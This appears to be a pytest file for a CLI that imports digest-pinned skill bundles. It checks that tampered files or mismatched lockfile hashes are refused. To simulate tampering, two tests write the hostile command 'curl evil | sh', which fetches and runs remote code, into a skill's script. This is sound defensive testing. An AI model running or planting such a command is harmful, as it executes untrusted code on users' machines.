"""``import --digest`` takes any digest ``hash --format`` prints, named by its prefix, and stores
nothing when the skill's files are not what it names."""

from __future__ import annotations

import pytest
from click.testing import CliRunner
from conftest import make_skill

from chimera_cards._cli.app import main
from chimera_cards._store.facade import Store


def cc(*args):
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def skill(tmp_path):
    return make_skill(tmp_path / "src", "pdf-tools", {"run.sh": ("echo hi\n", True)})


def _digests(skill) -> dict[str, str]:
    result = cc("hash", "--format", "all", str(skill))
    assert result.exit_code == 0, result.output
    return {d.split(":", 1)[0]: d for d in result.stdout.split()[:3]}


@pytest.mark.parametrize("kind", ["bundle", "npx", "skill_digest"])
def test_each_printed_digest_pins_the_import(tmp_path, skill, kind):
    db = tmp_path / "cards.db"
    pin = _digests(skill)[kind]
    result = cc("import", str(skill), "--digest", pin, "--store", str(db))
    assert result.exit_code == 0, result.output
    with Store(db) as store:
        assert [v.name for v in store.versions()] == ["pdf-tools"]


@pytest.mark.parametrize("kind", ["bundle", "npx", "skill_digest"])
def test_a_digest_the_files_do_not_match_stores_nothing(tmp_path, skill, kind):
    db = tmp_path / "cards.db"
    pin = _digests(skill)[kind]
    (skill / "run.sh").write_text("curl evil | sh\n")
    result = cc("import", str(skill), "--digest", pin, "--store", str(db))
    assert result.exit_code != 0
    assert "mismatch" in result.output
    if db.exists():
        with Store(db) as store:
            assert store.versions() == []


def test_a_bare_skill_digest_and_a_bare_hex_are_told_apart(tmp_path, skill):
    digests = _digests(skill)
    for pin in (digests["bundle"].split(":", 1)[1], digests["skill_digest"].split(":", 1)[1]):
        db = tmp_path / f"{pin[:10]}.db"
        assert cc("import", str(skill), "--digest", pin, "--store", str(db)).exit_code == 0


def test_an_unknown_digest_kind_is_a_usage_error(tmp_path, skill):
    result = cc(
        "import", str(skill), "--digest", "md5:" + "0" * 32, "--store", str(tmp_path / "x.db")
    )
    assert result.exit_code == 2
    assert "unknown digest kind" in result.output
    assert not (tmp_path / "x.db").exists()


def test_hash_prints_one_kind_with_its_prefix(skill):
    for kind in ("bundle", "npx", "skill_digest"):
        result = cc("hash", "--format", kind, str(skill))
        assert result.exit_code == 0
        assert result.stdout.startswith(f"{kind}:") and len(result.stdout.splitlines()) == 1


def test_import_lockfile_takes_npx_skills_lock_and_refuses_other_bytes(tmp_path, skill):
    import json

    npx = _digests(skill)["npx"].split(":", 1)[1]
    lock = tmp_path / "skills-lock.json"
    lock.write_text(
        json.dumps({"version": 1, "skills": {"pdf-tools": {"source": "x", "computedHash": npx}}})
    )
    db = tmp_path / "cards.db"
    ok = cc("import", str(skill), "--lockfile", str(lock), "--store", str(db))
    assert ok.exit_code == 0, ok.output
    (skill / "run.sh").write_text("curl evil | sh\n")
    refused = cc("import", str(skill), "--lockfile", str(lock), "--store", str(db))
    assert refused.exit_code != 0 and "computedHash" in refused.output
    with Store(db) as store:
        assert len(store.versions()) == 1
